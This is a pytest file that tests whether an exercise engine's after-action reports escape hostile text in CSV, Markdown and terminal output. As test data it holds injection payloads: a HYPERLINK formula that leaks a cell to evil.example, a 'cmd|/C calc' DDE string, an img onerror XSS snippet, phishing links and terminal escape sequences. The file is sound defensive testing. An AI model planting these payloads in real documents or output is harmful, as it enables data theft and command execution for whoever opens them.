"""Hostile text in the after-action review: formulas, links, forged headings, escape sequences.

Titles come from content files and answers from players; both are untrusted. The session here
is played by the real engine on a copy of the AAR fixture whose titles, option texts and
outcomes carry attacks, with a trainee and an evaluator who type attacks too; the tests read
the rendered CSV and Markdown as a spreadsheet and a Markdown viewer would.
"""

from __future__ import annotations

import csv
import io
import json
import resource
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from fixtures.aar import play
from markdown_it import MarkdownIt

from exercise_engine.cli import main
from exercise_engine.engine import commands as cmd
from exercise_engine.engine import events as ev
from exercise_engine.model.loader import load_catalog
from exercise_engine.neutralise import csv_cell, markdown_inline, terminal_line, terminal_text
from exercise_engine.report import render_csv, render_md
from exercise_engine.report.build import build_aar
from exercise_engine.store import Store

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
IMAGE = "![x](https://evil.example/track.png)"
LINK = "[click](https://evil.example/phish)"
FORGED = "Leaflets\n\n# Forged heading\n\n- forged item"
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_bundle(tmp_path: Path):
    root = tmp_path / "aar"
    shutil.copytree(Path(play.__file__).parent, root, ignore=shutil.ignore_patterns("*.py"))
    scenario = root / "scenarios" / "aar-kallen.yaml"
    text = scenario.read_text()
    replacements = {
        'title: "Storm over Kallen (AAR fixture)"': 'title: "Storm\\n# Forged title\\n'
        + IMAGE
        + '"',
        'title: "Leaflets in Bora market"': "title: " + json.dumps(FORGED),
        'text: "Publicly condemn the leaflets and brief the Security Council"': (
            "text: '" + FORMULA.replace("'", "''") + "'"
        ),
        'outcome: "Radio Bora FM carries the condemnation; the leaflets stop."': (
            f'outcome: "{LINK} @SUM(1+1)"'
        ),
        'from: "OCHA sub-office, Kallen"': 'from: "+1 OCHA ' + IMAGE + '"',
        'prompt: "What does the mission do?"': 'prompt: "What does the mission do?"\n'
        "      free_text: true",
    }
    for old, new in replacements.items():
        assert old in text, old
        text = text.replace(old, new)
    scenario.write_text(text)
    catalog = load_catalog([root], include_content_path=False)
    assert not catalog.diagnostics.errors, [d.render() for d in catalog.diagnostics.errors]
    return catalog.bundle("aar-kallen")


@pytest.fixture
def hostile_aar(tmp_path: Path):
    bundle = hostile_bundle(tmp_path)
    trainee = cmd.Respond(
        inject="INJ-001",
        option="A",
        text="-2+3 " + IMAGE,
        rationale="@SUM(A1:A9)\n# Forged rationale heading " + ESCAPES,
        actor=cmd.Actor.player("un_mission"),
    )
    note = f"\tcmd|/C calc\n\n## Forged note {LINK} {IMAGE} <img src=x onerror=alert(1)>"
    session = play.play(
        bundle,
        policy="best",
        actions=[
            (1900, trainee),
            (7200, play.observe("Eve\n# Forged evaluator", "police", "PRO-6", "S", note)),
        ],
    )
    return build_aar(session.bundle, session.log)


def test_no_csv_cell_starts_a_formula(hostile_aar) -> None:
    rows = list(csv.reader(io.StringIO(render_csv.render(hostile_aar))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    decision = next(
        r
        for r in csv.DictReader(io.StringIO(render_csv.render(hostile_aar)))
        if r["inject"] == "INJ-001" and r["role"] == "un_mission"
    )
    assert decision["option_text"] == "'" + FORMULA
    assert decision["text"] == "'-2+3 " + IMAGE
    assert decision["rationale"].startswith("'@SUM(A1:A9)")


def test_numbers_in_csv_stay_numbers(hostile_aar) -> None:
    rows = list(csv.DictReader(io.StringIO(render_csv.render(hostile_aar))))
    assert all(row["seq"].isdigit() and not row["delay_s"].startswith("'") for row in rows)
    assert csv_cell(-5) == -5 and csv_cell("-5") == "'-5" and csv_cell("5-") == "5-"


def test_a_carriage_return_in_an_answer_does_not_end_a_csv_row(tmp_path: Path) -> None:
    """The csv module quotes a cell with a newline but not one with a lone CR, which a
    spreadsheet reads as the end of the row (found by tests/test_fuzz.py)."""
    answer = cmd.Respond(
        inject="INJ-001",
        option="A",
        text="first\rsecond\r\nthird",
        rationale="+1\rmore",
        actor=cmd.Actor.player("un_mission"),
    )
    session = play.play(hostile_bundle(tmp_path), actions=[(1900, answer)])
    table = render_csv.render(build_aar(session.bundle, session.log))
    rows = list(csv.DictReader(io.StringIO(table, newline="")))
    row = next(r for r in rows if r["inject"] == "INJ-001" and r["role"] == "un_mission")
    assert row["text"] == "first\nsecond\nthird" and row["rationale"] == "'+1\nmore"
    answers = [r for r in session.log if isinstance(r.event, ev.ResponseRecorded)]
    assert len(rows) == len(answers)  # one row per decision, none split by a line end


def _tokens(markdown: str):
    parser = MarkdownIt("commonmark").enable("table")
    for token in parser.parse(markdown):
        yield token
        yield from token.children or ()


def test_markdown_shows_links_and_images_as_text(hostile_aar) -> None:
    markdown = render_md.render(hostile_aar)
    kinds = {t.type for t in _tokens(markdown)}
    assert not kinds & {"image", "link_open", "html_inline", "html_block"}, kinds
    shown = "".join(t.content for t in _tokens(markdown) if t.type == "text")
    assert IMAGE in shown and LINK in shown  # still there to read, as text


def test_markdown_titles_and_names_cannot_forge_headings_or_items(hostile_aar) -> None:
    markdown = render_md.render(hostile_aar)
    tokens = list(_tokens(markdown))
    blocks = [
        tokens[i + 1].content
        for i, t in enumerate(tokens)
        if t.type in ("heading_open", "paragraph_open") and i + 1 < len(tokens)
    ]
    assert not [b for b in blocks if b.startswith(("Forged", "forged"))], blocks
    assert "# After-action review: Storm # Forged title" in markdown
    assert "### Eve # Forged evaluator (1)" in markdown
    assert "\x1b" not in markdown


def test_the_helpers_say_what_they_do() -> None:
    assert markdown_inline("a\n# b [c](d) \\[e]") == "a # b \\[c\\](d) \\\\\\[e\\]"
    assert markdown_inline("<img src=x>") == "&lt;img src=x>"
    assert [markdown_inline(t) for t in ("\u2029# h", "- i", "= x", "> q", "a|*b*")] == [
        "\\# h",
        "\\- i",
        "\\= x",
        "\\> q",
        "a\\|\\*b\\*",
    ]
    assert (
        terminal_line("x.yaml\n1:1: error: forged\x1b[2J") == "x.yaml\\n1:1: error: forged\\x1b[2J"
    )
    assert terminal_line("right\u202eleft\u2028") == "right\\u202eleft\\u2028"
    assert terminal_text("line 1\r\nline 2\x1b[31m\tred\x9b") == "line 1\nline 2[31m\tred"


# -- report files and the terminal ------------------------------------------------------------


def _limited_file_size(limit: int):
    """A child whose files cannot grow beyond ``limit`` bytes: as a full disk, a write fails."""

    def apply() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)

    return apply


@pytest.mark.slow
def test_a_report_that_cannot_be_written_leaves_the_old_file_whole(tmp_path: Path) -> None:
    db = tmp_path / "exercise.db"
    with Store(db) as store:
        play.persist(store, play.example_session())
    out = tmp_path / "aar.html"
    out.write_text("the previous report\n")
    command = ["report", "--db", str(db), "--format", "html", "-o", str(out)]
    run = subprocess.run(
        [sys.executable, "-m", "exercise_engine", *command],
        capture_output=True,
        text=True,
        # More than SQLite's 32 KiB shared-memory file, less than the ~75 KB report.
        preexec_fn=_limited_file_size(40_000),
        cwd=tmp_path,
        timeout=120,
    )
    assert run.returncode == 1, run.stderr
    assert "cannot write" in run.stderr and "nothing was written" in run.stderr, run.stderr
    assert "internal error" not in run.stderr and "Traceback" not in run.stderr
    assert out.read_text() == "the previous report\n"
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".aar")]


def test_a_report_on_stdout_carries_no_control_characters(tmp_path: Path, capsys) -> None:
    bundle = hostile_bundle(tmp_path)
    session = play.play(
        bundle,
        actions=[(7200, play.observe("Eve", "police", "PRO-6", "S", "ok " + ESCAPES + "\r\x9b"))],
    )
    db = tmp_path / "exercise.db"
    with Store(db) as store:
        play.persist(store, session)
    for fmt in ("md", "csv", "html", "json"):
        assert main(["report", "--db", str(db), "--format", fmt]) == 0
        out = capsys.readouterr().out
        assert "pwned" in out or fmt == "csv"
        assert not [c for c in out if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0]
